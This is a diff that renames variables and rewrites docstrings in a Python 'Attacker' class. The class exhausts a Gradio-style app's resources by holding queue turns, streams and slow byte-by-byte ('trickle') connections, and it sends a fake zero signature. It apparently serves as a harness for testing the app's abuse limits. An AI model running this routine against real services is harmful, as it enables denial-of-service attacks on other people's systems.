@@ -1,4 +1,4 @@
-"""A client that holds all it can from one network address, with as many cookies as it likes."""
+"""A client that takes as many resources as it can from one network address, with many cookies."""
 
 import asyncio
 import contextlib
@@ -13,12 +13,12 @@ import aiohttp
 import orjson
 
 API = "/gradio_api"
-SIGNED = "sha256=" + "0" * 64  # has the form of a signature, and is none
-AT_ONCE = 16  # attempts
-REFUSALS = 3  # times in a row that all of them fail, after which it has all it can
-REFUSED_SECONDS = 0.5  # in which the app would have said no
-MOST = 5_000  # of one kind
-JSON = "Content-Type: application/json\r\n"  # nothing else is read
+SIGNED = "sha256=" + "0" * 64  # has the form of a signature, and is not valid
+AT_ONCE = 16  # concurrent attempts
+REFUSALS = 3  # rounds without a success, after which nothing more can be held
+REFUSED_SECONDS = 0.5  # within which the app would have refused a connection
+MAX_HELD = 5_000  # of one kind
+JSON = "Content-Type: application/json\r\n"  # the app reads no body of another type
 HEADERS = "GET / HTTP/1.1\r\n"
 BODY = f"POST {API}/queue/join HTTP/1.1\r\n{JSON}Content-Length: 9000\r\n"
 LARGE = (
@@ -28,13 +28,13 @@ LARGE = (
 
 
 class Attacker:
-    """Holds things of an app until each kind is refused; an async context manager.
+    """Holds resources of an app until each kind is refused; an async context manager.
 
-    `held` counts what was taken of each kind, `refused` how often no more was.
+    `held` counts the resources held and `refused` the refused attempts, by kind.
 
     Args:
-        url: Where the app is.
-        address: The address of this machine that it connects from, such as 127.0.0.2.
+        url: The app's URL.
+        address: The local address that it connects from, such as 127.0.0.2.
     """
 
     def __init__(self, url: str, address: str) -> None:
@@ -74,7 +74,7 @@ class Attacker:
         await self._connector.close()
 
     async def hold_all(self, text: str, model: str | None = None) -> None:
-        """Hold turns, whose message is `text` and is for `model`, and then everything else."""
+        """Hold turns with the message `text` for `model`, and then resources of every other kind."""
         for kind, take in (
             ("turns", lambda: self._turn(text, model)),
             ("mailboxes", self._stream),
@@ -85,7 +85,7 @@ class Attacker:
             await self._all(kind, take)
 
     def trickle(self, seconds: float = 0.05) -> None:
-        """From now on send headers and bodies byte by byte, again and again, and go on asking."""
+        """Begin to send headers and bodies byte by byte, over and over, in the background."""
         for start in (
             self._head(HEADERS),
             self._head(BODY) + b"\r\n{",
@@ -96,13 +96,13 @@ class Attacker:
 
     async def _all(self, kind: str, take: Callable[[], Awaitable[bool]]) -> None:
         refused = 0
-        while refused < REFUSALS and self.held[kind] < MOST:
-            found = await asyncio.gather(*(self._tried(take) for _ in range(AT_ONCE)))
-            self.held[kind] += sum(found)
-            self.refused[kind] += found.count(False)
-            refused = 0 if any(found) else refused + 1
+        while refused < REFUSALS and self.held[kind] < MAX_HELD:
+            results = await asyncio.gather(*(self._try(take) for _ in range(AT_ONCE)))
+            self.held[kind] += sum(results)
+            self.refused[kind] += results.count(False)
+            refused = 0 if any(results) else refused + 1
 
-    async def _tried(self, take: Callable[[], Awaitable[bool]]) -> bool:
+    async def _try(self, take: Callable[[], Awaitable[bool]]) -> bool:
         try:
             return await take()
         except (aiohttp.ClientError, ConnectionError, asyncio.IncompleteReadError):
@@ -150,12 +150,12 @@ class Attacker:
         return True
 
     def _head(self, lines: str) -> bytes:
-        """Return a request's first lines with the Host that the app answers to."""
+        """Return the first lines of a request, with the app's Host header."""
         return f"{lines}Host: {urlsplit(self._url).netloc}\r\n".encode()
 
     async def _raw(self, data: bytes) -> bool:
-        """Open a connection that stays; whether the app has neither closed it nor answered."""
-        reader, writer = await self._connected()
+        """Open a connection and keep it; return whether the app has neither closed it nor answered."""
+        reader, writer = await self._connect()
         self._writers.append(writer)
         writer.write(data)
         await writer.drain()
@@ -166,16 +166,16 @@ class Attacker:
             return True
         return False
 
-    async def _connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        where: Any = urlsplit(self._url)
+    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        target: Any = urlsplit(self._url)
         return await asyncio.open_connection(
-            where.hostname, where.port, local_addr=(self._address, 0)
+            target.hostname, target.port, local_addr=(self._address, 0)
         )
 
     async def _trickle(self, start: bytes, seconds: float) -> None:
         while True:
             with contextlib.suppress(ConnectionError):
-                _, writer = await self._connected()
+                _, writer = await self._connect()
                 try:
                     writer.write(start)
                     while not writer.is_closing():
